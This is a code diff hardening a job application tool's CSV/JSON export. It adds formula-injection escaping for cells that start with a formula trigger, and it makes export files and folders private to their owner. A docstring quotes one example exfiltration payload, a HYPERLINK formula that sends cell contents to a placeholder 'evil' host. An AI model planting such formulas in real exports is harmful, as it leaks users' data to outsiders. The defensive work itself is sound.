@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 from pathlib import Path
 from typing import Any
 
@@ -12,19 +13,40 @@ from sqlalchemy import select
 from jobapp.store import db, repo
 from jobapp.store.tables import CvProfileRow, CvRow, RunRow, StepTimingRow
 
+#: first characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
-def _flat(value: Any) -> Any:
-    if isinstance(value, list):
-        return "; ".join(str(v) for v in value)
-    if isinstance(value, dict):
-        return json.dumps(value, ensure_ascii=False)
+
+def inert_cell(value: Any) -> Any:
+    """A CSV cell that no spreadsheet will run: offer titles come from anyone, and a title like
+    ``=HYPERLINK("http://evil/?"&A1, "Apply")`` would otherwise become a live formula that leaks
+    the sheet. A leading apostrophe is the spreadsheet convention for "this is text" (the OWASP
+    advice); numbers stay numbers."""
+    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_TRIGGERS):
+        return "'" + value
     return value
 
 
+def _flat(value: Any) -> Any:
+    if isinstance(value, list):
+        return inert_cell("; ".join(str(v) for v in value))
+    if isinstance(value, dict):
+        return json.dumps(value, ensure_ascii=False)
+    return inert_cell(value)
+
+
+def private_file(path: Path) -> Path:
+    """Create (or truncate) ``path`` readable by its owner only: exports hold the CV's text."""
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    os.fchmod(fd, 0o600)  # O_CREAT keeps the mode of a file that already existed
+    os.close(fd)
+    return path
+
+
 def _write(directory: Path, name: str, rows: list[dict[str, Any]]) -> list[Path]:
-    json_path = directory / f"{name}.json"
+    json_path = private_file(directory / f"{name}.json")
     json_path.write_text(json.dumps(rows, ensure_ascii=False, indent=2, default=str), encoding="utf-8")
-    csv_path = directory / f"{name}.csv"
+    csv_path = private_file(directory / f"{name}.csv")
     fields: list[str] = []
     for r in rows:
         fields += [k for k in r if k not in fields]
@@ -40,7 +62,9 @@ def _write(directory: Path, name: str, rows: list[dict[str, Any]]) -> list[Path]
 def export_all(directory: str | Path) -> list[Path]:
     """Export offers (step 1), summaries (2), CVs (3), profiles (4), matches (5-6), explanations (7), runs."""
     out = Path(directory)
-    out.mkdir(parents=True, exist_ok=True)
+    out.mkdir(
+        mode=0o700, parents=True, exist_ok=True
+    )  # a folder we create is private; an existing one is left as is
     written: list[Path] = []
     with db.session() as s:
         offers = repo.list_offers(s)
